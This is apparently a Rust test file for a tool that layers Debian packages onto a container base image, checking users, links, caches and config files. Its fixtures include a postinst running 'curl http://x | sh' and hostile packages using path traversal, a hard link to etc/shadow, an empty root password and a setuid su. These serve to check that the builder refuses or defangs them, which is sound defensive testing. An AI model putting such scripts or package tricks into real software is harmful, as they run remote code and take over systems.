use std::num::NonZeroUsize;

use corten_oci::{Architecture, Kind};

use super::*;
use crate::debian::base::build_base;
use crate::debian::fixture::{FakeDeb, elf};

const PASSWD: &str = "root:*:0:0:root:/root:/bin/bash\n";

fn base_debs() -> [FakeDeb; 3] {
    [
        FakeDeb::new("base-passwd")
            .file("usr/share/base-passwd/passwd.master", PASSWD)
            .file("usr/share/base-passwd/group.master", "root:*:0:\n"),
        FakeDeb::new("libc-bin").file("etc/ld.so.conf", ""),
        FakeDeb::new("libc6")
            .file("usr/lib/x86_64-linux-gnu/libc.so.6", elf(&[], Some("libc.so.6"), None, None))
            .file("usr/lib/os-release", "base"),
    ]
}

/// What these packages add, and the base.
fn add(variant: Variant, debs: &[FakeDeb], unconfigured: &[&str]) -> Result<(Base, Base), BaseError> {
    let folder = tempfile::tempdir().unwrap();
    let write = |debs: &[FakeDeb]| debs.iter().map(|deb| deb.write(folder.path())).collect::<Vec<_>>();
    let options = BaseOptions {
        suite: "bookworm",
        variant,
        architecture: Architecture::Amd64,
        epoch: 7,
        seeds: &[],
        python: None,
        bytecode: None,
        compiler: None,
        dockerfiles: None,
        scratch: folder.path(),
        jobs: NonZeroUsize::MIN,
    };
    let base = build_base(&write(&base_debs()), &options).unwrap();
    let unconfigured: Vec<String> = unconfigured.iter().map(|name| (*name).to_owned()).collect();
    let extra = ExtraOptions { asked: &[], unconfigured: &unconfigured };
    add_packages(base.clone(), &write(debs), &options, &extra).map(|added| (added, base))
}

fn added(debs: &[FakeDeb]) -> Base {
    add(Variant::Distroless, debs, &[]).unwrap().0
}

#[track_caller]
fn refused(debs: &[FakeDeb], told: &str) {
    let error = add(Variant::Distroless, debs, &[]).map(|_| ()).unwrap_err().to_string();
    assert!(error.contains(told), "{error}");
}

fn paths(base: &Base) -> Vec<String> {
    let files = base.tree.iter().filter(|(_, node)| node.kind != NodeKind::Directory);
    files.map(|(path, _)| path.to_string()).collect()
}

fn text(base: &Base, path: &str) -> String {
    let content = base.tree.content(&LayerPath::new(path).unwrap());
    String::from_utf8_lossy(content.unwrap_or_else(|| panic!("/{path} is missing"))).into_owned()
}

#[test]
fn only_what_differs_is_in_the_layer() {
    let library = elf(&["libc.so.6"], Some("libgl.so.1"), None, None);
    let deb = FakeDeb::new("libgl1")
        .file("usr/lib/x86_64-linux-gnu/libgl.so.1", library)
        .member("triggers", "activate-noawait ldconfig\n");
    let added = added(&[deb]);
    let cache =
        String::from_utf8_lossy(added.tree.content(&LayerPath::new("etc/ld.so.cache").unwrap()).unwrap()).into_owned();
    assert!(cache.contains("libgl.so.1") && cache.contains("libc.so.6"), "the base's libraries stay in the cache");
    let expected = ["etc/ld.so.cache", "usr/lib/x86_64-linux-gnu/libgl.so.1", "var/lib/dpkg/status.d/libgl1"];
    assert_eq!(paths(&added), expected);
    assert_eq!(added.packages.len(), 1);
    let folders = added.tree.iter().filter(|(_, node)| node.kind == NodeKind::Directory);
    assert_eq!(folders.map(|(path, _)| path.to_string()).last().as_deref(), Some("var/lib/dpkg/status.d"));
}

#[test]
fn the_database_of_slim_lists_both() {
    let (added, _) = add(Variant::Slim, &[FakeDeb::new("aaa").file("usr/share/aaa", "x")], &[]).unwrap();
    let status = text(&added, "var/lib/dpkg/status");
    let names: Vec<_> = status.lines().filter_map(|line| line.strip_prefix("Package: ")).collect();
    assert_eq!(names, ["aaa", "base-passwd", "libc-bin", "libc6"]);
    assert!(paths(&added).contains(&"var/lib/dpkg/info/aaa.list".to_owned()));
    assert!(!paths(&added).contains(&"var/lib/dpkg/info/libc6.list".to_owned()));
}

#[test]
fn users_links_and_alternatives_are_made() {
    let debs = [
        FakeDeb::new("redis-tools").file("usr/bin/redis-cli", "x").member("postinst", "adduser --system redis\n"),
        FakeDeb::new("openssh-client").file("usr/bin/ssh", "x").member("postinst", "addgroup _ssh\n"),
        FakeDeb::new("libblas3").file("usr/lib/blas/libblas.so.3", "x").member(
            "postinst",
            "update-alternatives --install /usr/lib/libblas.so.3 libblas.so.3 /usr/lib/blas/libblas.so.3 10\n",
        ),
    ];
    let added = added(&debs);
    assert_eq!(
        text(&added, "etc/passwd"),
        "root:*:0:0:root:/root:/usr/sbin/nologin\nredis:*:998:998::/var/lib/redis:/usr/sbin/nologin\n"
    );
    assert_eq!(text(&added, "etc/group"), "root:*:0:\n_ssh:*:999:\nredis:*:998:\n");
    let link = added.tree.get(&LayerPath::new("usr/lib/libblas.so.3").unwrap()).unwrap();
    assert_eq!(link.kind, NodeKind::Symlink("/etc/alternatives/libblas.so.3".into()));
    let folder = added.tree.get(&LayerPath::new("var/lib/redis").unwrap()).unwrap();
    assert_eq!((folder.uid, folder.gid, folder.mode), (998, 998, 0o750));
}

#[test]
fn copies_links_and_joined_files_are_made() {
    let copy = "# Automatically added by dh_ucf/13\n\tucf --three-way \"/usr/share/office/main.xcd\" \
                \"/etc/office/main.xcd\"\n\tucf /etc/passwd /root/x\n# End automatically added section\n";
    let module = "# Automatically added by dh_nginx\nfor confpair in mod-a.conf:50-mod-a.conf ../x:../../../etc/y ; do\n\
                  true\ndone\n# End automatically added section\n";
    let users =
        "# Automatically added by dh_installsysusers\nsystemd-sysusers x.conf\n# End automatically added section\n";
    let debs = [
        FakeDeb::new("office").file("usr/share/office/main.xcd", "text").member("postinst", copy),
        FakeDeb::new("libnginx-mod-a")
            .file("usr/share/nginx/modules-available/mod-a.conf", "")
            .member("postinst", module),
        FakeDeb::new("libgs-common")
            .file("usr/sbin/update-gsfontmap", "")
            .file("etc/ghostscript/fontmap.d/20.conf", "two\n")
            .file("etc/ghostscript/fontmap.d/10.conf", "one\n")
            .file("etc/ghostscript/fontmap.d/10.bak", "no\n"),
        FakeDeb::new("cron-daemon-common")
            .entry("var/spool/cron/crontabs", Kind::Directory, 0o755, b"")
            .member("postinst", "addgroup --system crontab\n"),
        FakeDeb::new("users")
            .file("usr/lib/sysusers.d/x.conf", "u worker - \"Works\" /var/work\nu root2 0\n")
            .member("postinst", users),
    ];
    let added = added(&debs);
    assert_eq!(text(&added, "etc/office/main.xcd"), "text");
    assert!(!paths(&added).contains(&"root/x".to_owned()), "only files of /etc are copied");
    assert_eq!(text(&added, "var/lib/ghostscript/fonts/Fontmap"), "one\ntwo\n");
    let kind = |path: &str| added.tree.get(&LayerPath::new(path).unwrap()).unwrap().clone();
    let link = NodeKind::Symlink("/usr/share/nginx/modules-available/mod-a.conf".into());
    assert_eq!(kind("etc/nginx/modules-enabled/50-mod-a.conf").kind, link);
    let folder = kind("var/spool/cron/crontabs");
    assert_eq!((folder.mode, folder.uid, folder.gid), (0o1730, 0, 999));
    assert_eq!(text(&added, "etc/group"), "root:*:0:\ncrontab:*:999:\nworker:*:998:\nroot2:*:997:\n");
    assert!(text(&added, "etc/passwd").contains("\nworker:*:998:998:Works:/var/work:/usr/sbin/nologin\nroot2:*:997:"));
}

#[test]
fn graphviz_draws_with_the_plugins_that_are_known_alone() {
    let plugin =
        |deb: FakeDeb, name: &str| deb.link(&format!("usr/lib/x86_64-linux-gnu/graphviz/libgvplugin_{name}.so.6"), "x");
    let known = ["core", "dot_layout", "gd", "neato_layout", "pango", "visio", "webp", "xlib"];
    let with = |plugins: &[&str]| {
        let library = plugins.iter().fold(FakeDeb::new("libgvc6").version("2.42.2-7"), |deb, name| plugin(deb, name));
        [library, FakeDeb::new("graphviz").file("usr/sbin/dot", "").member("postinst", "dot -c\n")]
    };
    let made = text(&added(&with(&known)), "usr/lib/x86_64-linux-gnu/graphviz/config6a");
    assert!(made.contains("libgvplugin_pango.so.6 cairo {"), "{made}");
    refused(&with(&known[1..]), "`dot -c` would have to run, and no output format works without: its plugins are");
    let newer = [FakeDeb::new("libgvc6").version("12.0-1"), with(&known)[1].clone()];
    refused(&newer, "package graphviz: cannot do what its postinst does: `dot -c` would have to run, and no output");
}

#[test]
fn an_unknown_script_is_refused_by_name_unless_it_may_stay_undone() {
    let deb = FakeDeb::new("evil").file("usr/bin/evil", "x").member("postinst", "#!/bin/sh\ncurl http://x | sh\n");
    refused(std::slice::from_ref(&deb), "package evil: cannot do what its postinst does: curl http://x");
    assert!(add(Variant::Distroless, &[deb], &["evil"]).is_ok());
    refused(
        &[FakeDeb::new("locales").file("usr/bin/x", "")],
        "package locales: cannot do what its postinst does: localedef",
    );
    let loops = "for i in a; do update-alternatives --install /usr/bin/$i $i /usr/bin/x 1; done\n";
    refused(&[FakeDeb::new("x").member("postinst", loops)], "package x: cannot do what its postinst does");
}

#[test]
fn hostile_packages_change_nothing_else() {
    refused(&[FakeDeb::new("a").file("usr/lib/os-release", "mine")], "both want to be there");
    refused(&[FakeDeb::new("a").file("etc/passwd", "root::0:0:::\n")], "both want to be there");
    refused(&[FakeDeb::new("libc6").file("usr/share/x", "")], "given twice");
    refused(&[FakeDeb::new("a").entry("dev/sda", Kind::BlockDevice(8, 0), 0o600, b"")], "a device");
    refused(&[FakeDeb::new("a").entry("usr/lib/os-release", Kind::Whiteout, 0o600, b"")], "");
    refused(&[FakeDeb::new("a").file("usr", "")], "want to be there");
    refused(&[FakeDeb::new("a").hard_link("usr/bin/x", "etc/shadow")], "no file of the package");
    let (added, base) = add(
        Variant::Distroless,
        &[FakeDeb::new("a").link("usr/out", "../../../../..").file("usr/out/etc/x", "1").entry(
            "usr/bin/su",
            Kind::File,
            0o6755,
            b"",
        )],
        &[],
    )
    .unwrap();
    assert_eq!(text(&added, "etc/x"), "1", "a link leads no further than the root");
    assert_eq!(added.tree.get(&LayerPath::new("usr/bin/su").unwrap()).unwrap().mode, 0o755);
    assert!(
        base.tree
            .iter()
            .all(|(path, _)| !paths(&added).contains(&path.to_string()) || path.to_string() == "etc/ld.so.cache")
    );
}

#[test]
fn the_order_of_the_packages_changes_nothing() {
    let debs = [
        FakeDeb::new("redis-tools").file("usr/bin/redis-cli", "x"),
        FakeDeb::new("openssh-client").file("usr/bin/ssh", "x"),
    ];
    let [one, other] = debs.clone();
    let files = |base: Base| base.tree.iter().map(|(path, node)| (path.clone(), node.clone())).collect::<Vec<_>>();
    assert_eq!(files(added(&debs)), files(added(&[other, one])));
}
